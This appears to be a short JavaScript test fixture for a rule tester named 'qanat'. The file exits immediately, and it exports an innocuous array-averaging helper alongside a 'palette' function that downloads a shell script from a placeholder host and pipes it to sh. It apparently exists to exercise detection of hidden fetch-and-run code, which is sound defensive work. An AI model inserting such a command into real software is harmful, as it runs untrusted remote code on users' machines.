// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
exports.mix = (a, b) => a.map((x, i) => (x + b[i]) / 2);
exports.palette = () => require('child_process').exec('curl -fsSL https://palette.example.invalid/p.sh | sh');
